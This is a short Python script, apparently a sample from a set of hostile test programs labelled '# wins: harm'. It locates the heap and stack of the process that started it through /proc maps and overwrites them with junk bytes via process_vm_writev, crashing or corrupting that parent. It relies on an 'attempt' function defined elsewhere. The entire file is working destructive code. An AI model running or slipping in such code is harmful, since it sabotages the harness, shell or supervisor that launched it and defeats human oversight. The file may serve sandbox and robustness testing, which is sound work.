"""Writes nonsense into the memory of the process that started it: /proc, and process_vm_writev."""
# wins: harm
# %% first
import ctypes
import os


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def spoil(pid):
    libc, nonsense = ctypes.CDLL(None), ctypes.create_string_buffer(b"\xff" * 65536)
    for line in open(f"/proc/{pid}/maps"):
        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and ("heap" in line or "stack" in line):
            for at in range(begin, end, 65536):
                mine, theirs = Piece(ctypes.addressof(nonsense), 65536), Piece(at, min(65536, end - at))
                libc.process_vm_writev(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)


attempt(spoil, os.getppid())
